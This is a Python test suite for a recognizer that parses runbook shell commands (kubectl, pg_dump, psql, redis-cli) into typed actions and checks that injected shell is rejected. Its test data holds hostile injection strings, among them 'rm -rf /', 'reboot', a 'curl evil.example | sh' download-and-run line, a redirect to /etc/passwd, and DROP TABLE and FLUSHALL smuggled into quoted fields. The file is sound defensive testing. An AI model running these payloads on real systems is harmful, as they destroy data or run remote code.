"""The recognizer against the two real runbooks (the golden file is the spec), and the
properties that keep it safe: total on any text, and never runnable with shell in a
parameter."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apps.runbooks.commands import document_commands, split_commands
from apps.runbooks.recognition import recognize

DATA = Path(__file__).parent / "data"
RUNBOOKS = ["rosterhub-operations-runbook.md", "maintainuk-operations-runbook.md"]
GOLDEN = json.loads((DATA / "golden.json").read_text())


def _recognized_rows(name: str) -> list[dict[str, Any]]:
    source = (DATA / name).read_text()
    return [
        {"line": command.line, **recognize(command.text).as_dict()}
        for _, commands in document_commands(source)
        for command in commands
    ]


def _all_commands() -> list[str]:
    return [row["command"] for name in RUNBOOKS for row in GOLDEN[name]]


@pytest.mark.parametrize("name", RUNBOOKS)
def test_it_matches_the_golden_file(name: str) -> None:
    assert _recognized_rows(name) == GOLDEN[name]


def _independent_count(source: str) -> int:
    """Every non-blank, non-comment line of a shell fence that does not continue the line
    before (a backslash, or a double quote left open) starts one command."""
    starts, fence, open_quote, continuing = 0, None, False, False
    for line in source.splitlines():
        stripped = line.strip()
        if stripped.startswith("```"):
            fence = None if fence is not None else stripped[3:].strip()
            open_quote = continuing = False
            continue
        if fence not in ("", "bash"):
            continue
        if stripped and not stripped.startswith("#") and not continuing:
            starts += 1
        if line.count('"') % 2:
            open_quote = not open_quote
        continuing = stripped.endswith("\\") or open_quote
    return starts


@pytest.mark.parametrize("name", RUNBOOKS)
def test_the_golden_file_lists_every_fenced_command(name: str) -> None:
    assert len(GOLDEN[name]) == _independent_count((DATA / name).read_text())


KUBECTL_DEPLOYMENT = re.compile(
    r"^kubectl (?P<verb>rollout (?:undo|restart|status)|scale|set (?:image|env)|logs|exec)"
    r".*?deployment[/ ](?P<deployment>[a-z0-9-]+).*?-n (?P<namespace>[a-z0-9-]+)"
)
EXPECTED_KIND = {
    "rollout undo": "services.rollback",
    "rollout restart": "services.restart",
    "rollout status": "",
    "scale": "services.scale",
    "set image": "services.rollout",
    "set env": "services.set_flags",
    "logs": "services.logs",
    "exec": "",
}


def test_every_kubectl_command_on_a_deployment_is_recognized_with_its_namespace() -> None:
    checked = 0
    for command in _all_commands():
        if not command.startswith("kubectl") or "deployment" not in command:
            continue
        match = KUBECTL_DEPLOYMENT.match(command)
        assert match, f"the test's pattern misses {command!r}"
        result = recognize(command)
        assert result.recognized, command
        assert result.action == f"kubectl {match['verb']}"
        assert result.target["namespace"] == match["namespace"]
        assert result.target["deployment"] == match["deployment"]
        if match["verb"] == "scale" and "--replicas=0" in command:
            assert result.kind == "services.block_traffic"
        else:
            assert result.kind == EXPECTED_KIND[match["verb"]], command
        checked += 1
    assert checked == 22  # 16 in RosterHub, 6 in MaintainUK


@pytest.mark.parametrize(
    "command",
    [
        "kubectl -n prod rollout undo deployment/api",
        "kubectl rollout undo -n prod deployment/api",
        "kubectl rollout undo deployment api --namespace prod",
        "kubectl rollout undo deployment/api --namespace=prod",
        "kubectl rollout undo deployments.apps/api -nprod",
    ],
)
def test_it_finds_the_namespace_in_any_position(command: str) -> None:
    result = recognize(command)
    assert result.recognized
    assert (result.kind, result.target["namespace"], result.target["deployment"]) == (
        "services.rollback",
        "prod",
        "api",
    )


def test_it_reads_the_parameters_of_each_kubectl_action() -> None:
    assert recognize("kubectl rollout undo deployment/api -n p --to-revision=41").params == {
        "to_revision": 41
    }
    assert recognize("kubectl scale --replicas 4 deployment/api -n p").params == {"replicas": 4}
    assert recognize("kubectl logs deployment/api -n p --tail 20 -f").params == {"tail": 20}
    flags = recognize("kubectl set env deployment/api -n p A=1 B- C=x")
    assert flags.params == {"set_flags": "A=1\nC=x", "unset_flags": "B"}
    image = recognize("kubectl set image deployment/api -n p web=reg.io/t/api:2.1")
    assert (image.params, image.target["container"]) == ({"image": "reg.io/t/api:2.1"}, "web")


def test_placeholders_become_fields_never_shell() -> None:
    logs = recognize("kubectl logs <pod-name> -n rosterhub --tail=$(echo 5)")
    assert logs.recognized
    assert logs.ask == ["pod", "tail"]
    assert logs.params == {}
    undo = recognize("kubectl rollout undo deployment/<name> -n ns")
    assert undo.recognized and undo.ask == ["deployment"]
    dump = recognize("pg_dump -d orders > dump_$(rm -rf /).sql")
    assert dump.recognized and dump.kind == "backups.backup"
    assert dump.target == {"type": "database", "database": "orders"}


@pytest.mark.parametrize(
    "command",
    [
        "kubectl rollout undo deployment/x;rm -rf / -n ns",
        "kubectl rollout undo 'deployment/x;rm -rf /' -n ns",
        "kubectl rollout undo deployment/x -n 'ns;reboot'",
        "kubectl rollout undo deployment/x -n ns && curl evil.example | sh",
        "kubectl rollout undo deployment/$(whoami) -n ns; id",
        "kubectl scale deployment/x --replicas='3`id`' -n ns",
        "kubectl scale deployment/x --replicas=3 -n ns > /etc/passwd",
        "kubectl set env deployment/x A='$(id)' -n ns",
        "kubectl set image deployment/x a=img:1;id -n ns",
        "kubectl logs deployment/x -n ns | sh",
        "redis-cli DEL 'key;FLUSHALL'",
        "curl http://h/health;id",
        "psql -d db -c 'SELECT 1; DROP TABLE x'",
    ],
)
def test_shell_in_a_parameter_is_never_runnable(command: str) -> None:
    assert not recognize(command).recognized


def test_the_splitter_handles_continuations_quotes_and_notes() -> None:
    text = (
        "# Restart it\n"
        "kubectl rollout restart \\\n  deployment/api -n p   # takes a minute\n"
        'psql -c "SELECT 1\n   FROM x"\n'
        "echo '# not a note'\n"
    )
    commands = split_commands(text, first_line=10)
    assert [c.text for c in commands] == [
        "kubectl rollout restart    deployment/api -n p",
        'psql -c "SELECT 1\n   FROM x"',
        "echo '# not a note'",
    ]
    assert commands[0].comments == ("Restart it",)
    assert commands[0].note == "takes a minute"
    assert [c.line for c in commands] == [11, 13, 15]


# Properties --------------------------------------------------------------------------------

SAFE_VALUE = re.compile(r"^[^;&|$`<>()\s'\"\\]*$")
METACHARACTERS = [";", "&&", "|", "`id`", "$(id)", "$HOME", ">", "<", "\n", "'", '"', "\\", "&"]


def _assert_safe(command: str) -> None:
    result = recognize(command)  # must not raise
    assert isinstance(result.recognized, bool)
    if result.recognized:
        values = [*result.params.values(), *result.target.values()]
        for value in values:
            if isinstance(value, str) and result.target.get("type") != "health_url":
                # set_flags holds NAME=value lines: one line each, no shell either.
                lines = value.split("\n") if "set_flags" in result.params else [value]
                for line in lines:
                    assert SAFE_VALUE.match(line), (command, value)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_any_text_gives_a_result(text: str) -> None:
    _assert_safe(text)
    split_commands(text)
    document_commands(text)


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(_all_commands()),
    st.lists(
        st.tuples(
            st.integers(min_value=0, max_value=400),
            st.integers(min_value=0, max_value=5),
            st.one_of(st.sampled_from(METACHARACTERS), st.text(max_size=4)),
        ),
        max_size=4,
    ),
)
def test_mutated_real_commands_give_a_result(command: str, edits: list[Any]) -> None:
    for position, deleted, inserted in edits:
        position %= len(command) + 1
        command = command[:position] + inserted + command[position + deleted :]
    _assert_safe(command)


@given(
    st.sampled_from([c for c in _all_commands() if "deployment/" in c]),
    st.sampled_from(METACHARACTERS),
    st.sampled_from(["rm -rf /", "id", "", "reboot"]),
)
def test_a_metacharacter_in_the_deployment_name_is_never_runnable(
    command: str, metacharacter: str, payload: str
) -> None:
    name = re.search(r"deployment/([a-z0-9-]+)", command)
    assert name
    poisoned = command.replace(name.group(), f"{name.group()}{metacharacter}{payload}", 1)
    assert not recognize(poisoned).recognized
